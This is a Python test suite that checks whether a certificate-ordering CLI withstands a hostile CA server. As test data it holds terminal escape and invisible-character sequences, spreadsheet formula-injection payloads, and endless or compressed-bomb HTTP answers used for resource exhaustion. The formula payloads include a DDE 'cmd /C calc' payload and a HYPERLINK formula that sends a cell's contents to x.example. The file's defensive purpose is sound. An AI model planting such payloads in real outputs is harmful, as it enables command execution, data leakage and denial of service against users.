"""A CA that answers to do harm: to a terminal, to a spreadsheet, or without an end."""

import asyncio
import csv
import gzip
import json
import re
import sys
import unicodedata
from collections.abc import Sequence
from multiprocessing.util import Finalize
from pathlib import Path
from typing import Any

import pytest

from tests.certcentral.fault_server import answer
from tests.cli.conftest import Desk, Ended, assert_adds_up, ended, results
from tests.cli.counting_server import Call, CountingServer, Fate, in_turn_per_order, says

FIRST = 100_200_301


def desk_at(folder: Path, ca: CountingServer, orders: int = 1) -> Desk:
    """Return a folder to work in, with a list of the orders 1 to N."""
    desk = Desk(folder, ca.base_url)
    desk.environment |= {
        "BATCH_RESEND_LIMIT": "none",
        "BATCH_RESEND_MAX_ATTEMPTS": "1",
        "BATCH_RESEND_IN_DOUBT": "hold",
        "BATCH_RESEND_CONCURRENCY": "1",
    }
    desk.write("orders.csv", "\n".join(["order_id", *map(str, range(FIRST, FIRST + orders))]))
    return desk


async def answered(folder: Path, fates: Sequence[Fate], *flags: str) -> tuple[Desk, Ended]:
    """Send a list of which every order meets its fate once; check what must hold of any answer.

    One that is accepted follows each: a row of answers that are not the CA's would pause the run.
    """
    # What is not the CA's costs an order nothing the first time: it meets its fate again.
    by_order: dict[str, Sequence[Fate]] = {
        str(n): [fate] * 6 for n, fate in enumerate(fates, FIRST)
    }
    accepted = [str(FIRST + len(fates) + n) for n in range(len(fates))]
    async with CountingServer(in_turn_per_order(by_order)) as ca:
        desk = desk_at(folder, ca)
        pairs = zip(by_order, accepted, strict=True)
        desk.write("orders.csv", "\n".join(["order_id", *(f"{one}\n{two}" for one, two in pairs)]))
        sent = await desk.run("send", "orders.csv", *flags)
    assert ca.requests == 1 or 2 * len(fates) <= ca.requests <= 5 * len(fates)
    assert "Traceback" not in sent.err
    assert_adds_up(desk.summary())
    files = [path for path in desk.report().iterdir() if path.suffix != ".zip"]
    for text in (sent.out, sent.err, *(path.read_text() for path in files)):
        assert_harmless(text)
    return desk, sent


def assert_harmless(text: str) -> None:
    """Check that a text has no control characters but line breaks, and none that go unseen."""
    letters = set(text.replace("\r\n", "")) - {"\n"}
    harmful = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert [hex(ord(c)) for c in letters if unicodedata.category(c) in harmful] == []


def table(desk: Desk) -> list[dict[str, str]]:
    """Return the lines of results.csv that are about orders that met a fate."""
    with (desk.report() / "results.csv").open(encoding="utf-8", newline="") as file:
        return [line for line in csv.DictReader(file) if line["status"] != "sent"]


def found_of(desk: Desk) -> list[dict[str, Any]]:
    """Return the lines of results.jsonl that are about orders that met a fate."""
    return [line for line in results(desk.report()) if line["status"] != "sent"]


def said(message: object, code: object = "bad") -> bytes:
    """Return an error body of the CA's."""
    return json.dumps({"errors": [{"code": code, "message": message}]}).encode()


# --- a terminal ---------------------------------------------------------------------------------

CODES = {
    "clears the screen": "\x1b[2J",
    "sets the title": "\x1b]0;owned\x07",
    "C1 codes": "\x9b2J\x9d0;owned\x9c\x85",
    "backspaces": "ok\b\bno\x7f",
    "carriage return": "seen\rhidden",
    "right to left": "\u202etxt.exe\u202c\u200f\u061c\u2067x\u2069",
    "unseen": "\u200b\ufeff\u00ad\u2060\u180e\U000e0041\ufff9",
    "NUL": "\0a\0",
    "line breaks": "one\ntwo\r\nthree\u2028four\u2029five\x0b\x0c",
    "half a character": "\ud83d",
}


def ways_to_say(text: str) -> list[Fate]:
    """Return answers that bring a text: as JSON, escaped or not, as a page, as plain text."""
    raw = text.encode("utf-8", "surrogatepass")
    as_json = json.dumps({"errors": [{"message": f"A{text}Z", "code": f"c{text}d"}]}).encode()
    references = "".join(f"&#{ord(letter)};" for letter in text).encode()
    return [
        says(400, as_json),
        says(400, b"A%sZ" % raw),
        says(400, b"<html><title>A%sZ</title></html>" % raw),
        says(400, b"<html><p>A%sZ</p></html>" % references),
        says(400, b"A\xff\xfe%s\xc3\x28\xedZ" % raw),
    ]


@pytest.mark.parametrize("log_format", ["text", "json"])
async def test_control_codes_in_a_message_reach_neither_terminal_nor_report(
    tmp_path: Path, log_format: str
) -> None:
    fates = [fate for text in CODES.values() for fate in ways_to_say(text)]
    desk, sent = await answered(tmp_path, fates, "-v", "--log-format", log_format)
    assert sent.code == 3
    found = found_of(desk)
    assert [line["status"] for line in found] == ["refused", *["failed"] * 4] * len(CODES)
    for line in found:
        assert {"A", "Z"} <= set(line["error_message"])
    lines = [line for line in sent.err.splitlines() if re.search("attempt (refused|block)", line)]
    assert len(lines) >= len(fates), "each in one line, however many the message has"
    assert all("A" in line and "Z" in line for line in lines)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            answer(302, b"", "Location: https://x.example/\x1b]0;owned\x07\x9b2J"), id="a redirect"
        ),
        pytest.param(answer(401, said("\x1b[2J\u202eno\n\n", "\x1b[31m")), id="a wrong key"),
        pytest.param(answer(200, b"<title>\x1b[2J\xc2\x9b2J&#27;[2J&#x202e;</title>"), id="a page"),
        pytest.param(answer(429, said("\x1b[2J\u061c", "\x9b"), "Retry-After: 99"), id="a 429"),
    ],
)
async def test_nor_do_those_in_the_reason_for_which_a_run_stops(
    tmp_path: Path, data: bytes
) -> None:
    async def fate(call: Call) -> None:
        await call.visit.read_all()
        await call.say(data)

    desk, sent = await answered(tmp_path, [fate], "-v", "--patience", "1s")
    assert sent.code == 4
    run = desk.report().name
    for words in (("show", run), ("show", run, "--json"), ("history", str(FIRST))):
        shown = await desk.run(*words)
        assert_harmless(shown.out + shown.err)


# --- a spreadsheet ------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \0\u200b=1+1",
    "\ufeff=1+1",
    ',"\n=1+1',
    '";=1+1;"',
    "\uff1d1+1",  # full width: some spreadsheets take it for =
    "\uff0b1\uff0d1",
    "\uff20SUM(1)",
]
RUNS_AS_FORMULA = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


async def test_a_formula_in_a_message_or_a_code_is_none_in_the_table(tmp_path: Path) -> None:
    fates = [says(400, said(formula, formula)) for formula in FORMULAS]
    fates += [says(400, formula.encode()) for formula in FORMULAS]
    desk, sent = await answered(tmp_path, fates)
    assert sent.code == 3
    lines = table(desk)
    assert len(lines) == len(fates)
    for line in lines:
        assert line["reason"]
        for cell in line.values():
            assert not cell.startswith(RUNS_AS_FORMULA)
    first = found_of(desk)[0]
    assert first["error_message"] == FORMULAS[0]  # programs get it as it was said
    assert lines[0]["reason"] == lines[0]["error_code"] == f"'{FORMULAS[0]}"


# --- shape and size -----------------------------------------------------------------------------


MOST_MB = 130  # more than when it began


def note_memory() -> None:
    """Have the process write down, as it ends, how much memory it has taken.

    VmHWM is this program's own, which ru_maxrss is not (it has that of the process that forked it).
    """
    status = Path("/proc/self/status")
    began_kb = _in_kb(status.read_text(), "VmRSS")

    def note() -> None:
        grown_kb = _in_kb(status.read_text(), "VmHWM") - began_kb
        Path("memory").write_text(str(grown_kb))

    Finalize(None, note, exitpriority=0)


def _in_kb(status: str, name: str) -> int:
    return next(int(line.split()[1]) for line in status.splitlines() if line.startswith(name))


def without_an_end(head: bytes, wave: bytes) -> Fate:
    """Answer as fast as it is read, for ever."""

    async def fate(call: Call) -> None:
        await call.visit.read_all()
        await call.say(head)
        while not call.visit.writer.is_closing():
            await call.say(wave)
            await asyncio.sleep(0)

    return fate


def drop_by_drop(head: bytes, drop: bytes) -> Fate:
    """Answer a little every now and then, for ever."""

    async def fate(call: Call) -> None:
        await call.visit.read_all()
        await call.say(head)
        while True:
            await asyncio.sleep(0.02)
            await call.say(drop)

    return fate


WAVE = b"x" * 65536
OK, FAILED, REFUSED = b"HTTP/1.1 204 N\r\n", b"HTTP/1.1 500 N\r\n", b"HTTP/1.1 400 N\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
BOMB = gzip.compress(bytes(100_000_000), 1)  # a hundred and more times as large as it looks
ENDLESS: dict[str, tuple[Fate, str]] = {
    "a huge header": (without_an_end(OK + b"X: ", WAVE), "sent"),
    "headers without an end": (without_an_end(OK, b"X: y\r\n" * 500), "sent"),
    "a status line without an end": (without_an_end(b"HTTP/1.1 204 ", WAVE), "in_doubt"),
    "interim answers without an end": (
        without_an_end(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 500), "in_doubt"),
    "an error without an end": (without_an_end(FAILED + b"\r\n", WAVE), "failed"),
    "a refusal without an end": (without_an_end(REFUSED + b"\r\n", WAVE), "failed"),
    "chunks without an end": (
        without_an_end(FAILED + CHUNKED, b"10000\r\n" + WAVE + b"\r\n"), "failed"),
    "a chunk's size without an end": (without_an_end(FAILED + CHUNKED, b"0" * 65536), "failed"),
    "an acknowledgement without an end": (
        without_an_end(b"HTTP/1.1 200 N\r\n\r\n", WAVE), "sent"),
    "a bomb": (says(500, BOMB, "Content-Encoding: gzip"), "failed"),
    "a dripping status line": (drop_by_drop(b"HTTP/1.1 204 ", b"x"), "in_doubt"),
    "dripping headers": (drop_by_drop(OK, b"X: y\r\n"), "sent"),
    "a dripping error": (drop_by_drop(FAILED + b"Content-Length: 9999\r\n\r\n", b"x"), "failed"),
    "a dripping acknowledgement": (
        drop_by_drop(b"HTTP/1.1 200 N\r\nContent-Length: 9999\r\n\r\n", b"x"), "sent"),
}  # fmt: skip


@pytest.mark.skipif(sys.platform != "linux", reason="elsewhere a process has no /proc")
@pytest.mark.parametrize(("fate", "status"), ENDLESS.values(), ids=ENDLESS)
async def test_an_answer_without_an_end_takes_neither_memory_nor_more_than_its_time(
    tmp_path: Path, fate: Fate, status: str
) -> None:
    async with CountingServer(in_turn_per_order({str(FIRST + 1): [fate]})) as ca:
        desk = desk_at(tmp_path, ca, orders=3)
        words = ("send", "orders.csv", "--timeout", "0.8s")
        sent = await ended(await desk.start_after(note_memory, *words))
    found = {line["order_id"]: line["status"] for line in results(desk.report())}
    assert [found[number] for number in sorted(found)] == ["sent", status, "sent"]
    assert sent.code == (0 if status == "sent" else 3), sent.err
    assert ca.requests == 3
    assert int((tmp_path / "memory").read_text()) / 1024 < MOST_MB
    assert desk.summary()["elapsed_s"] < 5
